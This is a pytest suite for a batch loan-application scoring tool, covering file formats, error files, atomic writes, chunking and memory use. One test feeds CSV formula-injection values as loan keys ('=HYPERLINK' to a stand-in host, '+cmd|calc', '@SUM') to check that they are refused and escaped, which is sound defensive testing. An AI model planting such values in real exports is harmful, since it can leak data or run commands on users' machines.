import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from loantap.data.application_file import expected_rows
from loantap.data.applications import FIELDS
from loantap.errors import InputError, SchemaError
from loantap.model.persistence import SavedModel
from loantap.scoring.application import all_reasons, score_application
from loantap_serving import batch
from loantap_serving.batch import score_file

COLUMNS = [column.name for column in FIELDS]


@pytest.fixture
def applications(raw_loans: pd.DataFrame) -> pd.DataFrame:
    """2,000 applications as a file has them."""
    return raw_loans[COLUMNS].copy()


def written(frame: pd.DataFrame, path: Path) -> Path:
    if path.suffix == ".parquet":
        frame.to_parquet(path, index=False)
    else:
        frame.to_csv(path, index=False)
    return path


def read(path: Path) -> pd.DataFrame:
    return pd.read_parquet(path) if path.suffix == ".parquet" else pd.read_csv(path)


@pytest.mark.parametrize("kind", ["csv", "csv.gz", "parquet"])
def test_each_form_of_file_is_read_and_written(
    model: SavedModel, applications: pd.DataFrame, tmp_path: Path, kind: str
):
    report = score_file(model, written(applications, tmp_path / f"in.{kind}"), tmp_path / f"out.{kind}")
    scores = read(tmp_path / f"out.{kind}")
    assert (report.rows, report.scored, report.refused, report.errors_path) == (2_000, 2_000, 0, None)
    assert scores["row"].tolist() == list(range(1, 2_001))
    assert report.referred == (scores["decision"] == "refer").sum() > 0
    assert report.mean_probability == pytest.approx(scores["probability_of_default"].mean())
    assert set(scores["model_version"]) == {model.version}
    assert {path.name for path in tmp_path.iterdir()} == {f"in.{kind}", f"out.{kind}"}


def test_a_file_scores_as_its_applications_do_one_by_one(model: SavedModel, applications: pd.DataFrame, tmp_path: Path):
    score_file(model, written(applications, tmp_path / "in.csv"), tmp_path / "out.parquet")
    scores = read(tmp_path / "out.parquet")
    texts = applications["term"].str.strip()
    for place, row in enumerate(applications.assign(term=texts).head(300).to_dict("records")):
        alone = score_application(model, {name: None if pd.isna(value) else value for name, value in row.items()})
        found = scores.iloc[place]
        assert found["probability_of_default"] == pytest.approx(alone.probability_of_default, abs=1e-12)
        assert found["decision"] == alone.decision
        codes = [reason.code for reason in alone.reasons[:3]]
        assert found[["reason_1", "reason_2", "reason_3"]].dropna().tolist() == codes
        assert found["warnings"] == len(alone.warnings)


def test_no_reason_of_a_file_is_slight(
    model: SavedModel, applications: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    path = written(applications, tmp_path / "in.csv")
    score_file(model, path, tmp_path / "some.csv")
    monkeypatch.setattr("loantap.scoring.table.SLIGHT", 0.2)
    score_file(model, path, tmp_path / "few.csv")
    some, few = (read(tmp_path / name)[["reason_1", "reason_2", "reason_3"]] for name in ("some.csv", "few.csv"))
    # Slight ones are left out from the weakest on; those that stay keep their places.
    assert few.notna().sum().sum() < some.notna().sum().sum()
    assert (few.fillna(some) == some).where(some.notna(), True).all(axis=None)
    for place, row in enumerate(
        applications.assign(term=applications["term"].str.strip()).head(100).to_dict("records")
    ):
        alone = all_reasons(model, {name: None if pd.isna(value) else value for name, value in row.items()})
        strong = {reason.code for reason in alone if abs(reason.contribution) >= 0.2}
        assert {*few.iloc[place, 1:].dropna()} <= strong  # the strongest is told however slight it is


def test_rows_that_break_the_contract_go_to_a_file_beside_it(
    model: SavedModel, applications: pd.DataFrame, tmp_path: Path
):
    spoilt = applications.astype({"dti": "object"})
    spoilt.loc[3, "dti"], spoilt.loc[7, "purpose"], spoilt.loc[9, "sub_grade"] = "lots", "a yacht", None
    spoilt.loc[3, "loan_amnt"] = -5
    report = score_file(model, written(spoilt, tmp_path / "in.csv"), tmp_path / "out.csv")
    scores, errors = read(tmp_path / "out.csv"), pd.read_csv(tmp_path / "out.csv.errors.csv")
    assert (report.rows, report.scored, report.refused) == (2_000, 1_997, 3)
    assert report.errors_path == tmp_path / "out.csv.errors.csv"
    assert set(errors["row"]) == {4, 8, 10}
    assert not set(scores["row"]) & {4, 8, 10}
    found = {(row, column): rule for row, column, rule in errors[["row", "column", "rule"]].itertuples(index=False)}
    assert found == {
        (4, "dti"): "not a number",
        (4, "loan_amnt"): "below 1",
        (8, "purpose"): "not an allowed value",
        (10, "sub_grade"): "missing",
    }


def test_records_with_too_many_fields_are_refused_and_counted(
    model: SavedModel, applications: pd.DataFrame, tmp_path: Path
):
    path = written(applications.head(50), tmp_path / "in.csv")
    lines = path.read_text().splitlines()
    lines[20] += ",one,two"
    path.write_text("\n".join(lines) + "\n")
    report = score_file(model, path, tmp_path / "out.csv")
    assert (report.rows, report.scored, report.refused) == (50, 49, 1)
    errors = pd.read_csv(tmp_path / "out.csv.errors.csv")
    assert errors[["row", "rule"]].values.tolist() == [[20, f"a record of {len(COLUMNS) + 2} fields"]]


def test_errors_of_an_earlier_try_do_not_stay(model: SavedModel, applications: pd.DataFrame, tmp_path: Path):
    spoilt = applications.assign(purpose=["a yacht", *applications["purpose"][1:]])
    score_file(model, written(spoilt, tmp_path / "in.csv"), tmp_path / "out.csv")
    assert (tmp_path / "out.csv.errors.csv").exists()
    score_file(model, written(applications, tmp_path / "in.csv"), tmp_path / "out.csv")
    assert not (tmp_path / "out.csv.errors.csv").exists()


def test_a_file_in_which_no_row_is_right_leaves_what_was_there(
    model: SavedModel, applications: pd.DataFrame, tmp_path: Path
):
    score_file(model, written(applications.head(5), tmp_path / "old.csv"), tmp_path / "out.csv")
    (tmp_path / "old.csv").unlink()
    old = (tmp_path / "out.csv").read_bytes()
    path = written(applications.assign(purpose="a yacht"), tmp_path / "in.csv")
    with pytest.raises(SchemaError, match="no row keeps the contract"):
        score_file(model, path, tmp_path / "out.csv")
    assert (tmp_path / "out.csv").read_bytes() == old
    assert {path.name for path in tmp_path.iterdir()} == {"in.csv", "out.csv"}


def test_a_failure_half_way_leaves_what_was_there(
    model: SavedModel, applications: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr("loantap.data.files_of_tables.BATCH_ROWS", 500)
    calls = []

    def full(*arguments, **options):
        calls.append(1)
        if len(calls) == 3:
            raise OSError(28, "No space left on device")
        return batch_score(*arguments, **options)

    score_file(model, written(applications.head(5), tmp_path / "old.csv"), tmp_path / "out.csv")
    (tmp_path / "old.csv").unlink()
    old = (tmp_path / "out.csv").read_bytes()
    batch_score = batch.score_frame
    monkeypatch.setattr(batch, "score_frame", full)
    with pytest.raises(OSError, match="No space left"):
        score_file(model, written(applications, tmp_path / "in.parquet"), tmp_path / "out.csv")
    assert (tmp_path / "out.csv").read_bytes() == old
    assert {path.name for path in tmp_path.iterdir()} == {"in.parquet", "out.csv"}


def test_chunks_change_nothing(
    model: SavedModel, applications: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    path = written(applications, tmp_path / "in.parquet")
    score_file(model, path, tmp_path / "whole.csv")
    monkeypatch.setattr("loantap.data.files_of_tables.BATCH_ROWS", 333)
    seen: list[int] = []
    score_file(model, path, tmp_path / "parts.csv", progress=seen.append)
    assert (tmp_path / "parts.csv").read_bytes() == (tmp_path / "whole.csv").read_bytes()
    assert seen == [333, 666, 999, 1332, 1665, 1998, 2000]


def test_the_key_of_a_loan_is_kept(model: SavedModel, applications: pd.DataFrame, tmp_path: Path):
    keyed = applications.assign(loan_id=[f"L{number:05}" for number in range(len(applications))])
    score_file(model, written(keyed, tmp_path / "in.csv"), tmp_path / "out.csv")
    assert read(tmp_path / "out.csv")["loan_id"].tolist() == keyed["loan_id"].tolist()


def test_no_month_of_funding_means_now_and_no_grade_or_installment_is_no_fault(
    model: SavedModel, applications: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr("loantap.scoring.table.this_month", lambda: "Dec-2016")
    bare = applications.drop(columns=["issue_d", "grade", "installment", "emp_title", "title"])
    score_file(model, written(bare, tmp_path / "in.csv"), tmp_path / "bare.csv")
    full = applications.assign(issue_d="Dec-2016")
    score_file(model, written(full, tmp_path / "in.csv"), tmp_path / "full.csv")
    assert (tmp_path / "bare.csv").read_bytes() == (tmp_path / "full.csv").read_bytes()


def test_a_missing_column_is_named(model: SavedModel, applications: pd.DataFrame, tmp_path: Path):
    path = written(applications.drop(columns=["dti", "revol_util"]), tmp_path / "in.csv")
    with pytest.raises(SchemaError, match="missing: dti, revol_util"):
        score_file(model, path, tmp_path / "out.csv")


@pytest.mark.parametrize("name", ["out.xlsx", "out", "in.csv"])
def test_an_output_of_another_kind_or_the_input_itself_is_refused(
    model: SavedModel, applications: pd.DataFrame, tmp_path: Path, name: str
):
    path = written(applications, tmp_path / "in.csv")
    before = path.read_bytes()
    with pytest.raises(InputError):
        score_file(model, path, tmp_path / name)
    assert path.read_bytes() == before


def test_free_text_is_not_quoted_among_the_errors(model: SavedModel, applications: pd.DataFrame, tmp_path: Path):
    spoilt = applications.assign(emp_title="SECRET NAME", purpose=["SECRET NAME", *applications["purpose"][1:]])
    score_file(model, written(spoilt, tmp_path / "in.csv"), tmp_path / "out.csv")
    assert "emp_title" not in (tmp_path / "out.csv.errors.csv").read_text()


PEAK = """
import resource, sys
from pathlib import Path
from loantap.data import files_of_tables
from loantap.model.persistence import load_model
from loantap_serving.batch import score_file
files_of_tables.BATCH_ROWS = 20_000
for path in sys.argv[2:]:
    score_file(load_model(Path(sys.argv[1])), Path(path), Path(path).with_suffix(".scores.parquet"))
    print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
"""


def test_memory_follows_the_chunk_and_not_the_file(model_folder: Path, raw_loans: pd.DataFrame, tmp_path: Path):
    paths = [tmp_path / f"{copies}.parquet" for copies in (50, 200)]
    for path in paths:
        pd.concat([raw_loans[COLUMNS]] * int(path.stem)).to_parquet(path, row_group_size=20_000)
    words = [sys.executable, "-c", PEAK, str(model_folder), *map(str, paths)]
    first, second = map(int, subprocess.run(words, check=True, capture_output=True, text=True).stdout.split())
    # Four times the rows; what grows is the allocator's slack.
    assert second < 1.25 * first, (first, second)


def test_keys_that_are_missing_or_a_formula_are_refused(model: SavedModel, applications: pd.DataFrame, tmp_path: Path):
    keys: list = [f"L{number}" for number in range(2_000)]
    keys[:5] = ['=HYPERLINK("http://e/?"&A1)', "+cmd|calc", "@SUM(A1)", "-12", None]
    score_file(model, written(applications.assign(loan_id=keys), tmp_path / "in.csv"), tmp_path / "out.csv")
    errors, scores = pd.read_csv(tmp_path / "out.csv.errors.csv"), read(tmp_path / "out.csv")
    assert errors[["row", "rule"]].values.tolist() == [
        [5, "missing"], [1, "begins like a formula"], [2, "begins like a formula"], [3, "begins like a formula"],
    ]  # fmt: skip
    assert scores["loan_id"].tolist() == keys[3:4] + keys[5:]
    assert "HYPERLINK" not in (tmp_path / "out.csv.errors.csv").read_text()


def test_values_that_a_spreadsheet_would_run_are_told_as_texts(
    model: SavedModel, applications: pd.DataFrame, tmp_path: Path
):
    spoilt = applications.assign(purpose=["=1+1", *applications["purpose"][1:]])
    score_file(model, written(spoilt, tmp_path / "in.csv"), tmp_path / "out.csv")
    assert pd.read_csv(tmp_path / "out.csv.errors.csv")["value"].tolist() == ["'=1+1"]


def test_months_with_a_time_zone_are_taken_and_lists_are_refused(
    model: SavedModel, applications: pd.DataFrame, tmp_path: Path
):
    months = pd.to_datetime(applications["earliest_cr_line"], format="%b-%Y").dt.tz_localize("UTC")
    zoned = applications.assign(earliest_cr_line=months)
    score_file(model, written(zoned, tmp_path / "in.parquet"), tmp_path / "zoned.csv")
    score_file(model, written(applications, tmp_path / "in.parquet"), tmp_path / "plain.csv")
    assert (tmp_path / "zoned.csv").read_bytes() == (tmp_path / "plain.csv").read_bytes()
    lists = applications.assign(purpose=[["car"]] * len(applications))
    with pytest.raises(SchemaError, match="hold lists or records: purpose"):
        score_file(model, written(lists, tmp_path / "in.parquet"), tmp_path / "out.csv")


def test_a_file_that_is_no_table_is_refused_before_it_fills_the_memory(
    model: SavedModel, applications: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr("loantap.data.text_records._MOST_RAGGED", 100)
    path = written(applications.head(10), tmp_path / "in.csv")
    path.write_text(path.read_text() + "x\n" * 101)
    with pytest.raises(InputError, match="quotes around fields"):
        score_file(model, path, tmp_path / "out.csv")
    assert not (tmp_path / "out.csv").exists()


@pytest.mark.parametrize("index", ["issue_d", "loan_id", "loan_amnt"])
def test_a_column_that_pandas_stored_as_an_index_is_read(
    model: SavedModel, applications: pd.DataFrame, tmp_path: Path, index: str
):
    keyed = applications.assign(loan_id=[f"L{number}" for number in range(len(applications))])
    score_file(model, written(keyed, tmp_path / "in.parquet"), tmp_path / "wanted.csv")
    keyed.set_index(index).to_parquet(tmp_path / "in.parquet")
    score_file(model, tmp_path / "in.parquet", tmp_path / "out.csv")
    assert (tmp_path / "out.csv").read_bytes() == (tmp_path / "wanted.csv").read_bytes()


def test_whole_numbers_as_keys_keep_their_digits(model: SavedModel, applications: pd.DataFrame, tmp_path: Path):
    keys = pd.array([2**53 + 1, None, *range(1_998)], dtype="Int64")
    score_file(model, written(applications.assign(loan_id=keys), tmp_path / "in.parquet"), tmp_path / "out.parquet")
    assert read(tmp_path / "out.parquet")["loan_id"].tolist()[:2] == [str(2**53 + 1), "0"]


def test_the_file_of_errors_never_takes_the_place_of_another_file(
    model: SavedModel, applications: pd.DataFrame, tmp_path: Path
):
    path = written(applications, tmp_path / "s.csv.errors.csv")
    before = path.read_bytes()
    with pytest.raises(InputError, match="expected another file than the one that is read"):
        score_file(model, path, tmp_path / "s.csv")
    other = written(applications, tmp_path / "in.csv")
    with pytest.raises(InputError, match="something else is there"):
        score_file(model, other, tmp_path / "s.csv")
    assert path.read_bytes() == before
    assert not (tmp_path / "s.csv").exists()


def test_an_application_without_a_month_of_funding_among_others_is_of_this_month(
    model: SavedModel, applications: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr("loantap.scoring.table.this_month", lambda: "Dec-2016")
    months = [None, *applications["issue_d"][1:]]
    score_file(model, written(applications.assign(issue_d=months), tmp_path / "in.csv"), tmp_path / "gaps.csv")
    typed = pd.to_datetime(pd.Series(months), format="%b-%Y")
    score_file(model, written(applications.assign(issue_d=typed), tmp_path / "in.parquet"), tmp_path / "typed.csv")
    filled = applications.assign(issue_d=["Dec-2016", *months[1:]])
    score_file(model, written(filled, tmp_path / "in.csv"), tmp_path / "filled.csv")
    assert (tmp_path / "gaps.csv").read_bytes() == (tmp_path / "filled.csv").read_bytes()
    assert (tmp_path / "typed.csv").read_bytes() == (tmp_path / "filled.csv").read_bytes()
    empty = applications.assign(issue_d=np.nan)
    assert score_file(model, written(empty, tmp_path / "in.parquet"), tmp_path / "empty.csv").scored == 2_000


def test_what_the_service_refuses_a_file_may_not_hold(model: SavedModel, applications: pd.DataFrame, tmp_path: Path):
    odd = ["2003-13", "Smarch-2003", "Mar-1850", "Mar-2150"]
    spoilt = applications.assign(earliest_cr_line=[*odd, *applications["earliest_cr_line"][4:]])
    score_file(model, written(spoilt, tmp_path / "in.csv"), tmp_path / "out.csv")
    errors = pd.read_csv(tmp_path / "out.csv.errors.csv")
    assert errors["row"].tolist() == [1, 2, 3, 4]
    assert set(errors["rule"]) == {"not a month"}
    old = pd.to_datetime(applications["earliest_cr_line"], format="%b-%Y").astype("datetime64[s]")
    old[0] = pd.Timestamp("1066-10-14")
    score_file(model, written(applications.assign(earliest_cr_line=old), tmp_path / "in.parquet"), tmp_path / "old.csv")
    assert pd.read_csv(tmp_path / "old.csv.errors.csv")["row"].tolist() == [1]
    flags = applications.assign(pub_rec=True)
    with pytest.raises(SchemaError, match="column 'pub_rec': not a number: 2,000 in rows 1, 2, 3"):
        score_file(model, written(flags, tmp_path / "in.parquet"), tmp_path / "flags.csv")


def test_all_refused_rows_are_counted(model: SavedModel, applications: pd.DataFrame, tmp_path: Path):
    path = written(pd.concat([applications.assign(purpose="a yacht")] * 2), tmp_path / "in.csv")
    with pytest.raises(SchemaError, match="not an allowed value: 4,000 in rows 1, 2, 3"):
        score_file(model, path, tmp_path / "out.csv")


@pytest.mark.parametrize("content", [b"loan_amnt,term\r1,2\r", b'"' + b"x" * 200_000 + b'",b\n1,2\n'])
def test_a_file_of_another_form_is_named(model: SavedModel, tmp_path: Path, content: bytes):
    (tmp_path / "in.csv").write_bytes(content)
    with pytest.raises(InputError):
        score_file(model, tmp_path / "in.csv", tmp_path / "out.csv")


def test_a_bar_needs_no_file_that_can_be_counted(tmp_path: Path):
    (tmp_path / "in.csv").write_bytes(b"a,b\n" + b'"' + b"x" * 200_000 + b'",2\n')
    assert expected_rows(tmp_path / "in.csv") is None
    (tmp_path / "in.csv").write_text("a,b\n" + "1,2\n" * 1_000)
    assert expected_rows(tmp_path / "in.csv") == 1_000
